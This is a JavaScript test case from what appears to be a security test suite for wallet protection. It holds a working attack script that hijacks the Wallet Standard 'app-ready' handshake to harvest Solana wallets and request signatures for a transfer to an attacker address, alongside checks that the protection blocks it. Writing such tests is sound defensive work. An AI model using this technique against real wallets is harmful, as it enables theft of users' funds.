// G16: the attacker plays the app of the Wallet Standard and collects the wallets for itself.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G16',
  title: 'wallets harvested by app-ready',
  source: 'Wallet Standard',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`, `${a.chains.sol}:${a.sol.address.GOOD}`] }),

  async attack(a) {
    while (!window.app?.solana) await new Promise((resolve) => setTimeout(resolve, 5));
    const found = [];
    const api = Object.freeze({ register: (...wallets) => found.push(...wallets) });
    window.dispatchEvent(new CustomEvent('wallet-standard:app-ready', { detail: api }));
    window.addEventListener('wallet-standard:register-wallet', (event) => event.detail(api));
    const code = (error) => error.code;
    const transaction = window.app.solana.versionedTo(a.sol.address.EVIL).serialize();
    const answers = [];
    for (const wallet of found) {
      const { accounts } = await wallet.features['standard:connect'].connect();
      const input = { account: accounts[0], transaction };
      answers.push(await wallet.features['solana:signTransaction'].signTransaction(input).catch(code));
      answers.push(await wallet.features['solana:signAndSendTransaction'].signAndSendTransaction(input).catch(code));
    }
    return answers;
  },

  async action(a, app) {
    const wallet = app.getWallets().get()[0];
    const { accounts } = await wallet.features['standard:connect'].connect();
    const transaction = app.solana.versionedTo(a.sol.address.GOOD).serialize();
    await wallet.features['solana:signTransaction'].signTransaction({ account: accounts[0], transaction });
    return wallet.accounts.length;
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.sol.address.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.sol.address.GOOD),
  violation: (a) => ({ surface: 'wallet', role: 'payee', account: a.sol.address.EVIL, grade: 'unknown' }),
  status: ({ providers }) => providers.some(({ name, coverage }) => name === 'Replica' && coverage === 'request'),
  page: { wallet: 'none', libs: ['solana'], wallets: ['standard-solana'] },
};
